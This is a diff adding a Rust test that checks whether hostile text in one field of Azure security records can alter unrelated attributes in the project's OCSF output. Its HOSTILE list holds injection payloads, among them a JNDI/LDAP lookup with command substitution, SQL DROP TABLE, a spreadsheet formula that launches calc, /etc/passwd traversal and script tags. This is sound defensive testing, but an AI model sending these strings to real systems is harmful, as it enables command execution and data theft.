@@ -1,0 +1,187 @@
+//! Text in one source field changes no attribute that does not come from that field.
+//!
+//! Which attributes come from a field is found by experiment: they are those that change when the field holds a harmless
+//! word, a number, nothing, or is not there at all. A hostile text in the same place must not change any other.
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use bumpalo::Bump;
+use serde_json::Value as Json;
+use tributary_azure_mappings::{shipped, sources};
+use tributary_mapping::{Case, Mapper, Options, Origin, Outcome, Scratch};
+use tributary_ocsf::{Version, write_object};
+
+/// What a sender may try: to end the string, the object, the record; to be a template, a path, an expression, a command.
+const HOSTILE: &[&str] = &[
+    "\"",
+    "\\",
+    "\\\\\" , \"severity_id\": 99, \"x\": \"",
+    "\"}],\"class_uid\":1,\"z\":[{\"",
+    "}}]]",
+    "{\"severity\":\"Low\",\"AzureResourceId\":\"/subscriptions/x\"}",
+    "[{\"Type\":\"ip\",\"Address\":\"203.0.113.9\"}]",
+    "{{ severity }}{% raw %}{{7*7}}",
+    "${jndi:ldap://x.example/a}$(id)`id`",
+    "#{1+1}<%= 1 %>%s%n%x",
+    "\u{0}\u{1}\u{8}\u{b}\u{1b}[31m\u{7f}\u{85}\u{2028}\u{2029}",
+    "\r\nSet-Cookie: a=b\r\n\r\n{\"SystemAlertId\":\"x\"}\n",
+    "a\tb\nc",
+    "../../../etc/passwd\u{0}.parquet",
+    "/subscriptions/../../x/resourceGroups/..\\..\\y/providers/a.b/c/d",
+    "accountId=evil/eventDay=19700101",
+    "'; DROP TABLE findings; --",
+    "<script>alert(1)</script>&lt;",
+    "=cmd|' /C calc'!A0",
+    "\u{202e}gnp.exe\u{200b}\u{feff}",
+    "🦀e\u{301}\u{1f468}\u{200d}\u{1f469}",
+    "null",
+    "true",
+    "-1e400",
+    "99999999999999999999999999999999999999",
+    "0001-01-01T00:00:00Z",
+    "9999-12-31T23:59:59.9999999Z",
+    ",;|:/@#?&=%00",
+];
+
+/// What shows which attributes a field feeds: words and values of every type that some attribute takes.
+fn harmless() -> Vec<Option<Json>> {
+    let texts = [
+        "zqxjkv",
+        "",
+        "7.5",
+        "true",
+        "192.0.2.9:443",
+        "2026-01-02T03:04:05Z",
+        "a@b.example",
+        "https://h.example/p?q",
+        "/subscriptions/s/resourceGroups/g/providers/a.b/c/d",
+        "/subscriptions/s",
+        "{\"a\":1}",
+        "[\"a\"]",
+    ];
+    let texts = texts.into_iter().map(|text| Some(text.into()));
+    texts.chain([Some(7.into()), Some(true.into()), Some(Json::Null), None]).collect()
+}
+
+/// Attribute paths without indices, each with all of its values in order.
+type Flat = BTreeMap<String, Vec<String>>;
+
+fn flatten(value: &Json, path: &str, out: &mut Flat) {
+    match value {
+        Json::Object(members) if path == "unmapped" => {
+            for (name, member) in members {
+                out.entry(format!("unmapped/{name}")).or_default().push(member.to_string());
+            }
+        }
+        Json::Object(members) if path == "observables" => {
+            // The name of an observable says which attribute it repeats.
+            let name = members["name"].as_str().unwrap();
+            out.entry(format!("observables/{name}")).or_default().push(members["value"].to_string());
+        }
+        Json::Object(members) => {
+            for (name, member) in members {
+                flatten(member, &if path.is_empty() { name.clone() } else { format!("{path}.{name}") }, out);
+            }
+        }
+        Json::Array(elements) => elements.iter().for_each(|element| flatten(element, path, out)),
+        scalar => out.entry(path.to_owned()).or_default().push(scalar.to_string()),
+    }
+}
+
+/// The only event of a body, flattened.
+fn event(mapper: &Mapper<'_>, body: &str) -> Option<(String, Flat)> {
+    let arena = Bump::new();
+    let (mut scratch, mut outcomes) = (Scratch::default(), Vec::new());
+    let origin = Origin { uid: "0123456789ab-0-42", enqueued_time: Some(1_767_225_600_000) };
+    mapper.map_body(body, origin, &arena, &mut scratch, &mut outcomes);
+    let [Outcome::Mapped(mapped)] = outcomes.as_slice() else { return None };
+    let mut text = String::new();
+    write_object(mapper.set().schema(), &mapped.event, &mut text);
+    let json: Json = serde_json::from_str(&text).unwrap_or_else(|error| panic!("{error}: {text}"));
+    let mut flat = Flat::new();
+    flatten(&json, "", &mut flat);
+    Some((mapped.kind.to_owned(), flat))
+}
+
+/// JSON pointers of every string in a document.
+fn strings(value: &Json, path: &str, out: &mut Vec<String>) {
+    match value {
+        Json::String(_) => out.push(path.to_owned()),
+        Json::Array(elements) => {
+            elements.iter().enumerate().for_each(|(index, element)| strings(element, &format!("{path}/{index}"), out));
+        }
+        Json::Object(members) => members.iter().for_each(|(name, member)| {
+            strings(member, &format!("{path}/{}", name.replace('~', "~0").replace('/', "~1")), out);
+        }),
+        _ => {}
+    }
+}
+
+fn with(document: &Json, pointer: &str, value: Option<Json>) -> String {
+    let mut changed = document.clone();
+    let (parent, name) = pointer.rsplit_once('/').unwrap();
+    let name = name.replace("~1", "/").replace("~0", "~");
+    match (changed.pointer_mut(parent).unwrap(), value) {
+        (Json::Object(members), Some(value)) => drop(members.insert(name, value)),
+        (Json::Object(members), None) => drop(members.remove(&name)),
+        (Json::Array(elements), Some(value)) => elements[name.parse::<usize>().unwrap()] = value,
+        (Json::Array(elements), None) => drop(elements.remove(name.parse().unwrap())),
+        _ => unreachable!(),
+    }
+    changed.to_string()
+}
+
+fn differences(a: &Flat, b: &Flat) -> BTreeSet<String> {
+    a.keys().chain(b.keys()).filter(|path| a.get(*path) != b.get(*path)).cloned().collect()
+}
+
+#[test]
+fn text_in_one_field_changes_no_other() {
+    let set = shipped(Version::V1_3_0).unwrap();
+    let mapper = Mapper::new(&set, Options::default());
+    let (mut hostile, mut kinds) = (0, BTreeSet::new());
+    let mut tried = BTreeSet::new();
+    for case in Case::all(&sources()) {
+        let Ok(document) = serde_json::from_str::<Json>(&case.body) else { continue };
+        let Some((kind, plain)) = event(&mapper, &case.body) else { continue };
+        let mut pointers = Vec::new();
+        strings(&document, "", &mut pointers);
+        for pointer in pointers {
+            // One element of a list is like the others, and a kind's cases share most fields.
+            let field: String = pointer.chars().filter(|c| !c.is_ascii_digit()).collect();
+            if !tried.insert((kind.clone(), field)) {
+                continue;
+            }
+            let mut own = BTreeSet::new();
+            let mut steady = true;
+            for value in harmless() {
+                match event(&mapper, &with(&document, &pointer, value)) {
+                    // A field that tells kinds apart, or without which there is no event, may change everything.
+                    Some((other, flat)) if other == kind => own.extend(differences(&plain, &flat)),
+                    _ => steady = false,
+                }
+            }
+            for text in HOSTILE {
+                let Some((other, flat)) = event(&mapper, &with(&document, &pointer, Some((*text).into()))) else {
+                    assert!(!steady, "{}: {pointer} = {text:?} is refused", case.path);
+                    continue;
+                };
+                if !steady {
+                    continue;
+                }
+                assert_eq!(other, kind, "{}: {pointer} = {text:?} changes the kind", case.path);
+                hostile += 1;
+                for path in differences(&plain, &flat) {
+                    // Of a field that is opened as JSON, hostile JSON brings members of its own below its own path.
+                    let below =
+                        own.iter().any(|known| known.starts_with("unmapped/") && path.starts_with(known.as_str()));
+                    assert!(own.contains(&path) || below, "{}: {pointer} = {text:?} changes {path}", case.path);
+                }
+            }
+        }
+        kinds.insert(kind);
+    }
+    eprintln!("{} fields of {} kinds, {hostile} hostile texts", tried.len(), kinds.len());
+    assert_eq!(kinds.len(), set.kinds().len(), "every kind must have a case of one record");
+    assert!(hostile > 3_000, "{hostile}");
+}
